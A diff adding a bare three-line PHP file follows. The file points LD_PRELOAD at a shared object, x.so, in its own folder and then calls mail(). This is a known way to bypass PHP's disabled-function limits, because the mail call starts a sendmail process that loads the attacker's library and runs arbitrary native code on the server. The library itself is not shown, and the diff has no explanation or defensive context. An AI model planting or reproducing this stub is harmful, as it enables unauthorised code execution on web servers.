@@ -1,0 +1,3 @@
+<?php
+putenv("LD_PRELOAD=" . __DIR__ . "/x.so");
+mail("a@example.invalid", "", "", "");
